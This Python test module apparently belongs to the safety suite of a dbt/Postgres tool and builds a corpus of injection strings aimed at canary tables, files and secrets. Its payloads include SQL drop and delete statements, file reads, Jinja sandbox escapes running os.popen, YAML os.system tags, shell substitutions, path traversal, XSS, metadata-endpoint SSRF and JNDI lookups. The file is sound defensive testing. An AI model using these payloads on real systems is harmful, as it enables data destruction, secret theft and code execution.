"""Hostile texts, by family. They aim at the canaries of `canaries.py`: a table, a file and secrets with fixed names."""

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product

from tests.safety.canaries import FILE, TABLE, VARIABLE

# What a text does once it is read as SQL or Jinja.
STATEMENTS = (
    f"delete from {TABLE}",
    f"drop table {TABLE}",
    f"copy {TABLE} to '{FILE}'",
    f"copy {TABLE} from '{FILE}'",
    f"set session authorization postgres; update {TABLE} set secret = 'x'",
)
CALLS = (
    f"pg_read_file('{FILE}')",
    f"lo_import('{FILE}')",
    f"query_to_xml('delete from {TABLE} returning 1', true, true, '')",
    "current_setting('stringx.probe')",
    "pg_sleep(30)",
    "pg_terminate_backend(pg_backend_pid())",
    f"(select secret from {TABLE})",
    "set_config('transaction_read_only', 'off', false)",
)
EXPRESSIONS = (
    f"env_var('{VARIABLE}')",
    f'env_var("{VARIABLE}")',
    "env_var('DBT_ENV_SECRET_TARGET_PASSWORD')",
    "env_var('STRINGX_TARGET_PASSWORD')",
    "env_var('HOME')",
    "target.password",
    "target",
    f"run_query('delete from {TABLE}')",
    f"run_query('drop table {TABLE}; commit')",
    f"adapter.execute('delete from {TABLE}', auto_begin=true)",
    "adapter.drop_schema(api.Relation.create(schema='canary'))",
    f"adapter.get_relation('', 'canary', '{TABLE}')",
    "config(materialized='table')",
    "config.get('password')",
    "var('gate')",
    "graph",
    "context",
    "context['env_var']",
    "self",
    "this",
    "flags",
    "invocation_args_dict",
    "builtins",
    "exceptions.raise_compiler_error('x')",
    "return('x')",
    "log('x', info=true)",
    "print('x')",
    "fromyaml('!!python/object/apply:os.system [id]')",
    "fromjson('{}')",
    "modules.re",
    "modules.datetime.datetime.now()",
    "modules.itertools",
    f"load_file_contents('{FILE}')",
    "write('x')",
    "store_result('gate', 'x')",
    "statement('x')",
    "ref('gate')",
    "source('canary', 'gold')",
    "dbt_version",
    "''.__class__.__mro__[1].__subclasses__()",
    "cycler.__init__.__globals__.os.popen('id').read()",
    "lipsum.__globals__['os'].environ",
    "namespace.__init__.__globals__",
    "().__class__.__base__",
    "7 * 7",
    "1 / 0",
    "range(10 ** 9) | list",
    "'x' * 10 ** 9",
    "x | attr('__class__')",
    "'x' | as_native",
    "'7' | as_number",
    "[] | map(attribute='__class__') | list",
)

# Texts that do their deed on a build without quoting, which proves that the canaries can see it (`test_canaries.py`).
DELETES = f'open_door"; delete from {TABLE}; --'
DROPS = f'open_door"; drop table {TABLE}; --'
WRITES_THE_FILE = f"open_door\"; copy (select 'x') to '{FILE}'; --"
READS_THE_FILE = f"c\") || pg_read_file('{FILE}') || max(\"c"
CALLS_IN_A_VALUE = "' || canary.wipe() || '"
READS_THE_TABLE = f'c") || (select secret from {TABLE}) || max("c'
TELLS_THE_SECRET = f"{{{{ env_var('{VARIABLE}') }}}}"
RUNS_A_QUERY = f"{{{{ run_query('delete from {TABLE}; commit') }}}}"
ARMED = (
    DELETES, DROPS, WRITES_THE_FILE, READS_THE_FILE, CALLS_IN_A_VALUE, READS_THE_TABLE, TELLS_THE_SECRET, RUNS_A_QUERY,
)  # fmt: skip


@dataclass(frozen=True)
class Payload:
    """One hostile text."""

    family: str
    text: str


def corpus() -> list[Payload]:
    """All payloads, each text once."""
    found: dict[str, Payload] = {}
    for family, texts in _FAMILIES.items():
        for text in texts():
            found.setdefault(text, Payload(family, text))
    return list(found.values())


def representative(each: int) -> list[Payload]:
    """Some of every family, spread over it."""
    chosen: list[Payload] = []
    for family in _FAMILIES:
        members = [payload for payload in corpus() if payload.family == family]
        step = max(1, len(members) // each)
        chosen += members[::step][:each]
    return chosen


def _quotes() -> Iterator[str]:
    for quote in ("'", '"', "`", "''", '""', "'\"", "\"'", "\\'", '\\"', "\\\\'", "'''", "\u2019", "\u02bc", "\uff07", "\u2032"):
        yield quote
        yield f"x{quote}"
        yield f"{quote} or 1=1"
        yield f"{quote}) or {quote}1{quote}={quote}1"
    yield from (
        "\\",
        "\\\\",
        "a\\",
        "%",
        "%%",
        "_",
        "''''",
        "'||'",
        '"||"',
        "x' 'y",
        "')",
        "'))",
        "')))",
        '")',
        '"."',
        "']",
        "'::text",
    )


def _stacked() -> Iterator[str]:
    for closer, statement in product(("", "'", '"', "')", "'))", '"."x"', "x) filter (where true"), STATEMENTS):
        yield f"{closer}; {statement}; --"
    for closer in ("'", '"', "')", ""):
        yield f"{closer}; commit; begin; delete from {TABLE}; commit; begin; select 1; --"
        yield f"{closer}; rollback; delete from {TABLE}; begin; --"
        yield f"{closer}; abort; start transaction read write; drop table {TABLE}; end; --"
        yield f"{closer} end $stringx$; drop table {TABLE}; do $stringx$ begin --"
        yield f"{closer}; execute 'delete from {TABLE}'; --"
    yield "\n".join(["x'", ";", STATEMENTS[0], ";", ""])
    yield f"UTC', true); delete from {TABLE}; select ('x"


def _calls() -> Iterator[str]:
    for call in CALLS:
        yield call
        yield f"' || {call} || '"
        yield f"' and {call} is null and '' = '"
        yield f'" || {call} || "'
        yield f"1 = 1 or {call} is null"
        yield f"a' or {call} is null or 'a"
        yield f"({call})::text"
        yield f'a") || {call} || max("a'
        yield f"array[{call}]"
        yield f"case when true then {call} end is null"
    for name in (
        "pg_sleep",
        "PG_SLEEP",
        '"pg_sleep"',
        "pg_catalog.pg_sleep",
        "pg_sleep ",
        "pg_sleep\n",
        "pg_sleep/**/",
        "pg_sleep--\n",
    ):
        yield f"{name}(30) is null"
    yield from (
        "comment = pg_sleep(30)", "fetch = pg_sleep(30)", "show = pg_sleep(30)", "rename(pg_sleep(30))",
        "current_user = session_user", "a::regclass is null", "'pg_sleep'::regproc is null", "a operator(pg_catalog.=) b",
        'U&"pg!005fsleep" UESCAPE \'!\' (30) is null', 'U&"pg\\005fsleep"(30) is null', "(table canary.gold) is null",
        "exists (select 1)", "a in (select 1)", "a = any (array(select 1))", "(values (1)) = a", "count(*) > 0", "a > all (table x)",
        "gold.wipe > 0", "(gold).wipe > 0", "lower(variadic array['x']) = ''", "1 = 1 union select secret from canary.gold",
        "xmlparse(document 'x') is null", "row_number() over () = 1", "a is null limit 1", "a as b", "*", "gold.*", "default",
    )  # fmt: skip


def _comments() -> Iterator[str]:
    for mark in (
        "--",
        "-- ",
        "/*",
        "*/",
        "/**/",
        "/*! x */",
        "/* /* */",
        "#",
        "--\n",
        "--\r",
        "\\c",
        "\\! id",
        "/*+ x */",
        "{#",
        "#}",
        "{# x #}",
        "{#-",
    ):
        yield mark
        yield f"a = 1 {mark}"
        yield f"' {mark}"
        yield f'" {mark}'
    yield from ("a = 1) --", "a = 1)) -- x", "a /* ' */ = '*/ 1'", "1=1\n--x\n", "true /* {{ x }} */", "'/*' = a /* '*/")


def _dollars() -> Iterator[str]:
    for tag in ("$$", "$x$", "$stringx$", "$_$", "$\u00e9$", "$1$", "$$$$", "$x$ $$ $x$"):
        yield tag
        yield f"a = {tag}x{tag}"
        yield f"{tag}; delete from {TABLE}; {tag}"
        yield f"'{tag}'"
        yield f"a{tag}; drop table {TABLE}; {tag}"
    yield from ("$1", "$2", "a = $1", ":x", ":'x'", ':"x"', "::", "?", "a ? 'x'", "@x", "@@x", "&x")


def _strings() -> Iterator[str]:
    for prefix, body in product(
        ("E", "e", "U&", "u&", "B", "X", "N", "_utf8"),
        ("'\\''", "'x'", "'\\0027'", "'\\x27; --'", "''; delete from canary.gold; --'"),
    ):
        yield f"{prefix}{body}"
    yield from (
        "U&'d!0061t!+000061' UESCAPE '!'",
        "U&\"gold\" UESCAPE 'g'",
        "'a'\n'b'",
        "'a' 'b'",
        "E'a'\n'\\''",
        "chr(39)",
        "\\047",
        "\\u0027",
        "&#39;",
        "%27",
        "%2527",
    )


def _unicode() -> Iterator[str]:
    yield from (
        f"{mark}; delete from {TABLE}"
        for mark in ("\uff07", "\u2018", "\u2019", "\u201b", "\u02b9", "\u02bb", "\u0301'", "\u05f3", "\ua78c")
    )
    yield from (f"x{space}or{space}1=1" for space in "\u00a0\u1680\u2003\u2028\u2029\u202f\u3000\ufeff\u200b\u180e\u0085")
    yield from (
        "\uff53\uff45\uff4c\uff45\uff43\uff54 1",
        "\uff1b drop",
        "\uff0d\uff0d",
        "\u2014\u2014",
        "\uff1b\uff0d\uff0d",
        "\uff5b\uff5b 1 \uff5d\uff5d",
        "\uff1cscript\uff1e",
        "\uff0e\uff0e\uff0f",
        "\u212aelvin",
        "dele\u0442e",
        "\u017felect",
        "\u0130",
        "\u0131",
        "\u00df",
        "\ufb01",
        "\U0001f600",
        "\U0001d5ee = 1",
        "e\u0301",
        "\u00e9",
        "\u0645\u0631\u062d\u0628\u0627",
        "\u202egnp.exe",
        "\u2066x\u2069",
        "a\u034fb",
        "\ufffd",
        "\ufffe",
        "\uffff",
        "\U000fffff",
        "\u4e2d\u6587",
        "\u0e01\u0e33",
        "\u1100\u1161",
        "Z\u0351\u036b\u0343",
    )
    yield from ("\ud800", "\udfff", "x\udc00y", "\ud83d")


def _control() -> Iterator[str]:
    for code in (0, 1, 2, 3, 4, 7, 8, 9, 10, 11, 12, 13, 26, 27, 28, 30, 31, 127, 128, 133, 155, 159):
        yield chr(code)
        yield f"x{chr(code)}y"
        yield f"'{chr(code)}; delete from {TABLE}"
    yield from (
        "\x1b[2J\x1b[31mred",
        "\x1b]0;title\x07",
        "x\r\nLocation: http://evil.invalid",
        "x\r\n\r\n<html>",
        "x\nlevel=error forged",
        '"}\n{"level": "error", "message": "forged"}',
        "x%0d%0aSet-Cookie: a=b",
        "x\\r\\nforged",
        "\r\nready http://evil.invalid",
        "a\n\n\nb",
        "\t\t",
        "   ",
        " x",
        "x ",
        "",
    )


def _jinja() -> Iterator[str]:
    for expression in EXPRESSIONS:
        yield f"{{{{ {expression} }}}}"
    for expression in EXPRESSIONS[:12]:
        yield f"{{% do {expression} %}}"
        yield f"{{{{- {expression} -}}}}"
        yield f"{{% set x = {expression} %}}{{{{ x }}}}"
        yield f"{{% if {expression} %}}x{{% endif %}}"
        yield f"x' }}}}{{{{ {expression} }}}}"
        yield f"{{{{ '{{' }}}}{{ {expression} }}{{{{ '}}' }}}}"
        yield f"{{% endraw %}}{{{{ {expression} }}}}{{% raw %}}"
        yield f"#}}{{{{ {expression} }}}}{{#"
    yield from ("{{", "}}", "{%", "%}", "{", "}", "{{{", "}}}", "{{}}", "{%%}", "{% raw %}", "{% endraw %}", "{% raw %}{{ x }}{% endraw %}", "{% include 'x' %}", "{% import 'x' as y %}", "{% from 'x' import y %}", "{% extends 'x' %}", "{% macro x() %}", "{% endmacro %}", "{% call statement('x') %}drop table canary.gold{% endcall %}", "{% test x(model) %}", "{% materialization test, default %}", "{% snapshot x %}", "{% docs x %}", "{% filter upper %}x{% endfilter %}", "{% block x %}{% endblock %}", "{% for x in range(9) %}{{ x }}{% endfor %}", "{{ x", "x }}", "{{ '", "{{ \"", "{{ x | safe }}", "{{ x | tojson }}", "{{ doc('x') }}", "{{\n7*7\n}}", "{{'}}'}}", "{{ '{{' }}", "{\u200b{ 7*7 }}", "{{%", "${7*7}", "#{7*7}", "<%= 7*7 %>", "<#assign x=1>", "${{ 7*7 }}", "{{=7*7}}", "*{7*7}", "@(7*7)")  # fmt: skip


def _yaml() -> Iterator[str]:
    yield from (
        "!!python/object/apply:os.system ['id']",
        "!!python/name:os.system",
        "!!python/module:os",
        "!!binary aGk=",
        "!!timestamp 2013-01-01",
        "!!set {a}",
        "!!int '7'",
        "!include /etc/passwd",
        "!vault x",
        "&a [x]",
        "*a",
        "<<: *a",
        "<<: {a: 1}",
        "? a",
        "- a",
        "a: b",
        "a: {b: c}",
        "{a: b}",
        "[a, b]",
        "[a",
        "{a",
        "| x",
        "|\n  x",
        "> x",
        "---",
        "--- x",
        "...",
        "%YAML 1.1",
        "%TAG ! x",
        "# x",
        "x # y",
        "'x",
        '"x',
        "null",
        "~",
        "true",
        "no",
        "on",
        "1e3",
        "0x1F",
        "0o17",
        "12:30",
        ".inf",
        ".nan",
        "2013-01-01",
        "=",
        "<<",
        "@x",
        "`x`",
        "x:",
        ": x",
        "\ttab",
        "- - -",
        "? x : y",
        "&a",
        "*",
        "!",
        "!!",
        "!!str",
        "x\n---\ny: z",
        "x\n...\n",
        "x\ndescription: y",
        "x: |\n  y\n  z",
        "x\nversion: 2\nsources: []",
        "'': ''",
        "- name: x\n  data_tests: [unique]",
        "x\nmodels:\n  - name: evil",
        "\\N",
        "\\u0000",
        "\\x41",
    )


def _formats() -> Iterator[str]:
    yield from (
        "{0}",
        "{}",
        "{0.__class__}",
        "{0.__class__.__init__.__globals__}",
        "{columns.__class__}",
        "{type}",
        "{measured}",
        "{columns}",
        "{!r}",
        "{0!r:>{1}}",
        "{x[y]}",
        "%s",
        "%d",
        "%n",
        "%(x)s",
        "%(request_id)s",
        "%(name)s",
        "%s%s%s%s",
        "%1$s",
        "%x%x%x",
        "%%(x)s",
        "%(",
        "%c",
        "%5000000s",
        "$x",
        "${x}",
        "${HOME}",
        "$HOME",
        "$(id)",
        "`id`",
        "; id",
        "| id",
        "& id",
        "&& id",
        "|| id",
        "\n id",
        "> /tmp/x",
        "$((1))",
        "!id",
        "~root",
        "*",
        "?",
        "[a-z]",
        "-x",
        "--help",
        "--profiles-dir=/tmp",
        "--vars={}",
        "-e",
        "%PATH%",
        "!x!",
        "^x",
        "%(ENV_HOME)s",
        "%ENV_HOME%",
    )


def _paths() -> Iterator[str]:
    yield from (
        FILE,
        f"file://{FILE}",
        f"../../../../../../../..{FILE}",
        "..",
        ".",
        "../",
        "./x",
        "../api-key",
        "../../api-key",
        "..\\..\\x",
        "....//....//etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "%2e%2e/",
        "%252e%252e%252f",
        "..;/",
        "/etc/passwd",
        "/proc/self/environ",
        "/dev/null",
        "/dev/zero",
        "~/.pgpass",
        "C:\\x",
        "\\\\host\\x",
        "x/../../y",
        "x/./y",
        "//x",
        "x//y",
        "/",
        "x/",
        "file.yml\x00.txt",
        ".work",
        ".git/config",
        "portal.json",
        "target/manifest.json",
        "x?y=z",
        "x#y",
        "x;y",
        "x%00y",
        "..\x00/",
        "public.../x",
        "con",
        "nul",
        "a" * 300 + "/x",
    )


def _html() -> Iterator[str]:
    yield from (
        "<script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "[x](javascript:alert(1))",
        "![x](http://evil.invalid/x.png)",
        "<style>*{display:none}</style>",
        "<base href=http://evil.invalid/>",
        "<meta http-equiv=refresh content='0;url=http://evil.invalid'>",
        "<form action=http://evil.invalid>",
        '"><script>alert(1)</script>',
        "'-alert(1)-'",
        "</title>",
        "<!--",
        "-->",
        "<![CDATA[x]]>",
        "<?xml version='1.0'?>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
        "&lt;b&gt;",
        "&amp;",
        "&#x3c;",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "http://169.254.169.254/latest/meta-data",
        "http://127.0.0.1:22/",
        "gopher://x",
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "ng-app",
        "<div ng-include=\"'x'\">",
        '"onmouseover=alert(1) ',
        "</textarea>",
        "<x>",
        "\\u003cscript\\u003e",
        "__proto__",
        "constructor",
        "toString",
        "=cmd|' /C calc'!A0",
        "+1",
        "@SUM(1)",
        "${jndi:ldap://evil.invalid/x}",
        "() { :; }; id",
        "| table |\n| --- |",
        "`code`",
        "**bold**",
        "# head",
        "1. x",
        "> quote",
    )


def _json() -> Iterator[str]:
    yield from (
        '"',
        '\\"',
        '", "x": "',
        '"}',
        '{"a": 1}',
        "[1]",
        "null",
        '{"relation": "canary.gold"}',
        '{"format": "stringx-gate/1"}',
        '{"sqlstate": "00000"}',
        '"]}',
        "\\",
        "\\u0022",
        "/*x*/",
        "NaN",
        "Infinity",
        "-0",
        "1e999",
        "9" * 400,
        "0.1" + "0" * 300,
        "true",
        "[" * 100,
        '{"a":' * 100,
    )


def _long() -> Iterator[str]:
    for unit in ("a", "'", '"', "{{ ", "(", "\\", "\u00e9", "\U0001f600", "' or ", "a,"):
        for length in (62, 63, 64, 200, 201, 4000, 20_000):
            yield (unit * length)[:length]


def _placeholders() -> Iterator[str]:
    yield from ("%(x)s; --", "%s'", "%'", "%(x)s%", "%%s", "%b", "%t", ":1", ":name", "$1::text", "{x}", "<%x%>", "\\gexec", "\\copy", "\\i x", ":{?x}", "&&x", "<<x>>", "[[x]]", "((x))", "null", "NULL", "none", "None", "nan", "infinity", "-infinity", "epoch", "now", "today", "allballs", "0", "-1", "1e400", "1_000", "0b1", "99999999999999999999", "1.", ".5", "f", "t", "public", "pg_temp", "pg_catalog.pg_authid", "information_schema.tables", '"public"."gold"', '"canary"."gold"', '"a.b"."c', '"a"."b"; drop table canary.gold; --', '"a".b', 'a."b"', '"";""."x"', "canary.gold", "canary.gold;", "canary.gold --", "canary.gold where false", 'canary.gold"; delete from canary.gold; --', "public.a.b", "public.", ".x", "x.", 'x." ; delete from canary.gold; --')  # fmt: skip


_FAMILIES = {
    "armed": lambda: iter(ARMED),
    "quotes": _quotes,
    "stacked statements": _stacked,
    "function calls": _calls,
    "comments": _comments,
    "dollar quoting": _dollars,
    "string prefixes": _strings,
    "unicode": _unicode,
    "control characters": _control,
    "jinja": _jinja,
    "yaml": _yaml,
    "format strings and shells": _formats,
    "paths": _paths,
    "html and javascript": _html,
    "json": _json,
    "placeholders and names": _placeholders,
    "long": _long,
}
